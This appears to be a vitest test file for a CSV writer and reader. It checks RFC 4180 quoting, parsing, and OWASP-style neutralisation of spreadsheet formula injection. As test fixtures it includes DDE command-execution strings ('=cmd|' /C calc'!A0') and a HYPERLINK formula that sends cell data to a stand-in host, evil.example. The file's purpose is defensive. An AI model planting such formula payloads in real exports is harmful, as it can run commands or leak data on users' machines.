import { describe, expect, it } from 'vitest';
import { csvField, csvFile, parseCsv, spreadsheetCell, spreadsheetCsv } from './csv.ts';

const ATTACK = "=cmd|' /C calc'!A0";

describe('CSV for machines (RFC 4180)', () => {
  it('quotes a field with a comma, quote or line break and doubles its quotes; everything else stays as it is', () => {
    expect(csvField('TENT-1')).toBe('TENT-1');
    expect(csvField('MAT,"2"')).toBe('"MAT,""2"""');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvField(ATTACK)).toBe(ATTACK);
    expect(csvField('-5')).toBe('-5');
  });
  it('writes a header and one line per row, CRLF line ends', () => {
    expect(csvFile(['a', 'b'], [['1', 'x,y']])).toBe('a,b\r\n1,"x,y"\r\n');
  });
});

describe('CSV for spreadsheets (OWASP CSV injection)', () => {
  it('neutralises a text cell that a spreadsheet would read as a formula with a leading apostrophe', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(spreadsheetCell(`${start}SUM(A1:A2)`)).toMatch(/^"?'/);
    expect(spreadsheetCell(ATTACK)).toBe(`'${ATTACK}`);
    expect(spreadsheetCell('@SUM(1+1)*cmd|\' /C calc\'!A0')).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(spreadsheetCell('=HYPERLINK("http://evil.example?x="&A1,"Click")')).toBe('"\'=HYPERLINK(""http://evil.example?x=""&A1,""Click"")"');
    expect(spreadsheetCell('\tTAB')).toBe("'\tTAB");
    expect(spreadsheetCell('\r=1+1')).toBe('"\'\r=1+1"');
  });
  it('keeps numbers numbers: real numbers, signed or not, and plain texts are not touched', () => {
    expect(spreadsheetCell(-5)).toBe('-5');
    expect(spreadsheetCell(89.9)).toBe('89.9');
    expect(spreadsheetCell('-12.50')).toBe('-12.50');
    expect(spreadsheetCell('+49')).toBe('+49');
    expect(spreadsheetCell('-1e3')).toBe('-1e3');
    expect(spreadsheetCell('TENT-1')).toBe('TENT-1');
    expect(spreadsheetCell('a=b')).toBe('a=b');
    expect(spreadsheetCell(null)).toBe('');
    expect(spreadsheetCell(true)).toBe('true');
    // A sign followed by more than a number is a formula.
    expect(spreadsheetCell('-2+3')).toBe("'-2+3");
    expect(spreadsheetCell('+1)|cmd')).toBe("'+1)|cmd");
  });
  it('writes a UTF-8 byte order mark (spreadsheets then read umlauts right), a header and neutralised cells', () => {
    expect(spreadsheetCsv(['sku', 'price'], [[ATTACK, 5], ['Zelt "Süd"', 89.9]])).toBe(`\uFEFFsku,price\r\n'${ATTACK},5\r\n"Zelt ""Süd""",89.9\r\n`);
  });
});

describe('reading CSV (parseCsv)', () => {
  it('drops a byte order mark, reads quoted fields with commas, doubled quotes and line breaks, and numbers records by their first line', () => {
    const records = parseCsv('\uFEFFid,name\r\n1,"TV 55"" 4K, black"\n2,"two\nlines"\n\n3,\n');
    expect(records).toEqual([
      { fields: ['id', 'name'], line: 1 },
      { fields: ['1', 'TV 55" 4K, black'], line: 2 },
      { fields: ['2', 'two\nlines'], line: 3 },
      { fields: ['3', ''], line: 6 },
    ]);
  });
  it('names the line of a quote left open', () => {
    expect(() => parseCsv('id,name\n1,"open\n2,x\n')).toThrow('line 2: quoted field is not closed');
  });
  it('reads a written file back to the same rows', () => {
    const rows = [['a', 'b,c'], ['"q"', 'x\r\ny']];
    expect(parseCsv(csvFile(['h1', 'h2'], rows)).map((r) => r.fields)).toEqual([['h1', 'h2'], ...rows]);
  });
});
